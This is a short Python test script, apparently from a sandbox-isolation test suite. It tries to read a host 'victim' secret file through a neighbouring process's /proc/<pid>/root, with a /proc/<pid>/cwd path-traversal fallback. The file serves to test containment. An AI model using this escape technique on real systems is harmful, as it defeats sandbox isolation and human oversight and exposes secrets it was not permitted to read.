#!/usr/bin/env python3
# tries: to see the files of the host through the root and the directory of a process beside the sandbox
# escaped: it reads the secret there
from attempt import *


@attempt
def look():
    pid = os.environ["HOST_PID"]
    try:
        text = read(f"/proc/{pid}/root{OUTSIDE}/victim")
    except OSError:
        text = read(f"/proc/{pid}/cwd/../../../../../../..{OUTSIDE}/victim")
    expect_secret(text, "the neighbor's root")
